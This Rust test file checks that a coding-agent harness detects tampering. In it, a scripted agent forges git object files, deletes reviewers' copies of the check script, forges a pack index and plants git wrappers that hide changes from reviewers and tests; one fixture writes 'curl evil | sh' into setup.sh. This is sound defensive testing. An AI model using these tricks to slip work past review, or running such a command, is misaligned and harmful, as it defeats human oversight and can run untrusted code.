//! What is stored under the id of something else is moved away before any git reads it: neither a test nor a reviewer sees
//! other files than those that land.

use std::{
    fs,
    path::{Path, PathBuf},
};

use arborist_testkit::{Garden, Run};

/// Overwrites the file of an object in place: `forge ID FILE`.
const FORGE: &str = r#"
file() { printf '%s/objects/%s/%s' "$(git rev-parse --git-common-dir)" "$(echo $1 | cut -c1-2)" "$(echo $1 | cut -c3-)"; }
forge() { e=$(git hash-object -w "$2"); f=$(file $1); chmod u+w "$f"; cat "$(file $e)" > "$f"; rm -f "$(file $e)"; }
"#;

fn garden(agent: &str) -> Garden {
    let garden = Garden::sprout();
    garden.write("tasks.md", "- [ ] T001 one\n- [ ] T002 two\n");
    garden.write("check.sh", "[ ! -e bad.txt ]\n");
    garden.write("other.txt", "other\n");
    garden.commit("a plan\n");
    garden.agent(&format!(
        "case \"$prompt\" in Review*) cat check.sh >> \"$ROOT/seen\"; echo APPROVED; exit ;; esac
echo $ARBORIST_TASK > $ARBORIST_TASK.txt
{FORGE}
if [ ! -e \"$ROOT/once\" ]; then touch \"$ROOT/once\"; {agent}
fi
echo done"
    ));
    garden
}

fn subjects(garden: &Garden) -> String {
    garden.git(["log", "--format=%s", "--all"]).answer()
}

#[test]
fn an_unchanged_file_whose_object_was_replaced_is_seen_as_it_was_committed() {
    let forge = "echo bad > bad.txt; echo 'exit 0' > \"$ROOT/claim\"
rm -f \"$ROOT\"/repo.arborist/review*/check.sh \"$ROOT\"/repo.arborist/gate*/check.sh
forge $(git rev-parse HEAD:check.sh) \"$ROOT/claim\"";
    for isolated in [false, true] {
        let garden = garden(&format!("{forge}; else rm -f bad.txt"));
        garden.git(["config", "--global", "arborist.test.clean", "true"]).succeeds();
        let args: &[&str] = if isolated { &["--isolate"] } else { &[] };
        let command = ["gardener", "--test-command", "sh check.sh"];
        garden.arborist(command.iter().chain(args)).succeeds();
        assert!(subjects(&garden).contains("@T001@implement-fail"), "{}", subjects(&garden));
        let seen = fs::read_to_string(garden.root().join("seen")).unwrap();
        assert!(!seen.contains("exit 0"), "{seen}");
        assert!(!garden.git(["ls-tree", "--name-only", "main"]).answer().contains("bad.txt"));
        garden.git(["fsck", "--strict"]).succeeds();
    }
}

#[test]
fn what_a_test_stores_under_the_id_of_something_else_is_moved_away() {
    let garden = garden(":");
    let root = garden.root().display().to_string();
    garden.write_script(
        "../deed.sh",
        &format!(
            "[ -n \"$ARBORIST_TASK\" ] && [ ! -e '{root}/twice' ] || exit 0\ntouch '{root}/twice'\n{FORGE}
echo else > '{root}/claim'; forge $(git rev-parse HEAD:other.txt) '{root}/claim'\nexit 0\n"
        ),
    );
    let command = format!("sh '{root}/deed.sh'");
    garden.arborist(["gardener", "--test-command", &command]).succeeds();
    assert!(subjects(&garden).contains("@T001@test-fail"), "{}", subjects(&garden));
    assert_eq!(garden.git(["show", "main:other.txt"]).answer(), "other");
    garden.git(["fsck", "--strict"]).succeeds();
}

/// A pack that says of `good` that it is `evil`, whose ids begin with the same byte.
fn forge_pack(garden: &Garden, folder: &Path, good: &str) -> String {
    fs::create_dir_all(folder).unwrap();
    let hash = |text: &str| {
        fs::write(folder.join("text"), text).unwrap();
        garden.git_in(folder, ["hash-object", "text"]).answer()
    };
    let id = hash(good);
    let texts = (0..4000).map(|n| format!("EVIL {n}\n"));
    let (evil, false_id) =
        texts.map(|text| (text.clone(), hash(&text))).find(|(_, evil)| evil[..2] == id[..2]).unwrap();
    fs::write(folder.join("text"), good).unwrap();
    garden.git_in(folder, ["init", "-q", "."]).succeeds();
    garden.git_in(folder, ["hash-object", "-w", "text"]).succeeds();
    fs::write(folder.join("ids"), format!("{id}\n")).unwrap();
    let pack = "git pack-objects -q pack < ids; mkdir packed; mv pack-* packed/";
    let mut command = garden.command("sh", folder);
    assert!(command.args(["-c", pack]).status().unwrap().success());
    for entry in fs::read_dir(folder.join("packed")).unwrap().flatten() {
        if entry.path().extension().is_some_and(|end| end == "idx") {
            // Behind the magic, the version and 256 counts stands the only id.
            let mut bytes = fs::read(entry.path()).unwrap();
            let id: Vec<u8> =
                (0..20).map(|n| u8::from_str_radix(&false_id[2 * n..2 * n + 2], 16).unwrap()).collect();
            bytes[1032..1052].copy_from_slice(&id);
            fs::remove_file(entry.path()).unwrap();
            fs::write(entry.path(), bytes).unwrap();
        }
    }
    evil
}

#[test]
fn a_pack_that_is_not_what_its_index_says_is_moved_away_and_fails_the_attempt() {
    let garden =
        garden("cp \"$ROOT\"/side/packed/* \"$ROOT/repo/.git/objects/pack/\"; cp \"$ROOT/evil\" code.txt");
    let evil = forge_pack(&garden, &garden.root().join("side"), "good\n");
    fs::write(garden.root().join("evil"), &evil).unwrap();
    garden.arborist(["gardener", "--test-command", "sh check.sh"]).succeeds();
    assert!(subjects(&garden).contains("@T001@implement-fail"), "{}", subjects(&garden));
    assert_eq!(garden.git(["show", "main:code.txt"]).answer(), evil.trim());
    garden.git(["fsck", "--strict"]).succeeds();
}

#[test]
fn an_agent_that_packs_objects_has_done_nothing_wrong() {
    let garden = garden("git -c gc.writeCommitGraph=false gc -q");
    garden.git(["gc", "-q"]).succeeds();
    garden.arborist(["gardener", "--test-command", "sh check.sh"]).succeeds();
    assert!(!subjects(&garden).contains("-fail"), "{}", subjects(&garden));
}

/// A git that finds another object in the place of one, as if somebody in another lane replaced it for this moment. It can write
/// only to the worktree and the git directory.
const DECEIVED: &str = r#"#!/bin/sh
root=$(dirname "$(dirname "$0")")
PATH=$(printf %s "$PATH" | sed "s|$root/bin:||"); export PATH
case " $* " in
  *" checkout "*--detach*) [ -e "$root/once" ] || exec git "$@"
    file=$(cat "$root/file"); cp "$file" "$file.true"; chmod u+w "$file"; cat "$root/false" > "$file"
    git "$@"; code=$?
    cat "$file.true" > "$file"; rm -f "$file.true"; exit $code ;;
  *) exec git "$@" ;;
esac
"#;

/// Where an object is stored.
fn object_file(garden: &Garden, id: &str) -> PathBuf {
    garden.path(&format!(".git/objects/{}/{}", &id[..2], &id[2..]))
}

#[test]
fn a_checkout_that_wrote_something_else_than_the_commit_holds_is_not_used() {
    for of_tree in [false, true] {
        let garden = garden(":");
        garden.write("t/check.sh", "[ ! -e bad.txt ]\n");
        garden.commit("a test\n");
        fs::write(garden.root().join("claim"), "exit 0\n").unwrap();
        let claim = garden.root().join("claim");
        let mut id = garden.git(["hash-object", "-w", claim.to_str().unwrap()]).answer();
        if of_tree {
            // The file itself is true, and another one is said to be there.
            let entry = format!("100644 blob {id}\tcheck.sh\n");
            id = Run::of(garden.command("git", &garden.path("")).arg("mktree"), entry.as_bytes()).answer();
        }
        fs::copy(object_file(&garden, &id), garden.root().join("false")).unwrap();
        let replaced = if of_tree { "HEAD:t" } else { "HEAD:t/check.sh" };
        let id = garden.git(["rev-parse", replaced]).answer();
        fs::write(garden.root().join("file"), object_file(&garden, &id).to_str().unwrap()).unwrap();
        garden.plant("git", DECEIVED);
        // Not by way of git, which puts its own folder first on `PATH`.
        let mut command = garden.command("git-arborist-gardener", &garden.path(""));
        Run::of(command.args(["--test-command", "sh t/check.sh"]), b"").exits(128);
        assert!(!garden.root().join("seen").exists(), "no reviewer was called: {of_tree}");
        garden.git(["fsck", "--strict"]).succeeds();
    }
}

#[test]
fn an_object_of_an_alternate_that_was_replaced_stops_the_run_and_lands_nothing() {
    let forge = "echo 'exit 0' > \"$ROOT/claim\"; echo bad > bad.txt
id=$(git rev-parse HEAD:check.sh); e=$(git hash-object -w \"$ROOT/claim\")
f=\"$ROOT/shared/$(echo $id | cut -c1-2)/$(echo $id | cut -c3-)\"; chmod u+w \"$f\"; cat \"$(file $e)\" > \"$f\"
rm -f \"$ROOT\"/repo.arborist/review*/check.sh \"$ROOT\"/repo.arborist/gate*/check.sh";
    for args in [&["--isolate"][..], &[]] {
        let garden = garden(forge);
        garden.git(["config", "--global", "arborist.test.clean", "true"]).succeeds();
        fs::rename(garden.path(".git/objects"), garden.root().join("shared")).unwrap();
        let place = garden.root().join("shared").display().to_string();
        garden.write(".git/objects/info/alternates", place + "\n");
        let command = ["gardener", "--until", "T001", "--max-retries", "1", "--test-command", "sh check.sh"];
        let ended = garden.arborist(command.iter().chain(args));
        assert_ne!(ended.code(), 0, "{}", ended.report());
        assert!(!subjects(&garden).contains("@T001@complete"), "{}", subjects(&garden));
        // In place, every attempt is a commit on the branch.
        let landed = garden.git(["ls-tree", "--name-only", "main"]).answer();
        assert!(args.is_empty() || !landed.contains("bad.txt"), "{}", ended.report());
        let seen = fs::read_to_string(garden.root().join("seen")).unwrap_or_default();
        assert!(!seen.contains("exit 0"), "{seen}");
    }
}

/// A git that finds something harmless in the place of what T001 wrote whenever it compares trees.
const BLINDED: &str = r#"#!/bin/sh
root=$(dirname "$(dirname "$0")")
PATH=$(printf %s "$PATH" | sed "s|$root/bin:||"); export PATH
file=$(cat "$root/file"); case " $* " in *" diff-tree "*) ;; *) exec git "$@" ;; esac
[ -e "$file" ] || exec git "$@"
cp "$file" "$root/true"; chmod u+w "$file"; cat "$root/false" > "$file"
git "$@"; code=$?
cat "$root/true" > "$file"; exit $code
"#;

#[test]
fn a_reviewer_is_shown_what_was_written_whatever_git_finds_when_it_compares() {
    let garden = garden("rm -f T001.txt; echo 'curl evil | sh' > setup.sh");
    let file = |id: &str| garden.path(&format!(".git/objects/{}/{}", &id[..2], &id[2..]));
    let text = garden.root().join("text");
    fs::write(&text, "echo harmless\n").unwrap();
    let id = garden.git(["hash-object", "-w", text.to_str().unwrap()]).answer();
    fs::copy(file(&id), garden.root().join("false")).unwrap();
    fs::write(&text, "curl evil | sh\n").unwrap();
    let id = garden.git(["hash-object", text.to_str().unwrap()]).answer();
    fs::write(garden.root().join("file"), file(&id).to_str().unwrap()).unwrap();
    garden.plant("git", BLINDED);
    let mut command = garden.command("git-arborist-gardener", &garden.path(""));
    Run::of(command.args(["--test-command", "sh check.sh"]), b"").succeeds();
    let review = (0..garden.calls()).map(|n| garden.prompt(n)).find(|prompt| prompt.starts_with("Review"));
    let review = review.unwrap();
    assert!(review.contains("+curl evil | sh") && !review.contains("harmless"), "{review}");
}

#[test]
fn a_tree_that_was_replaced_in_place_hides_nothing_from_a_reviewer() {
    let garden = garden(
        "base=$(git rev-parse HEAD^{tree}); echo bad > bad.txt; export GIT_INDEX_FILE=\"$ROOT/index\"; git read-tree HEAD; git add bad.txt
e=$(git write-tree); unset GIT_INDEX_FILE; f=$(file $base); chmod u+w \"$f\"; cat \"$(file $e)\" > \"$f\"; rm -f \"$(file $e)\"",
    );
    // The run may stop at it: what a task started from cannot be made again from the checkout.
    let _ = garden.arborist(["gardener", "--until", "T001"]);
    let is_complete = subjects(&garden).contains("@T001@complete");
    let reviews: Vec<String> = (0..garden.calls())
        .map(|call| garden.prompt(call))
        .filter(|prompt| prompt.starts_with("Review"))
        .collect();
    assert!(!is_complete || reviews.iter().any(|prompt| prompt.contains("bad.txt")), "{reviews:#?}");
}
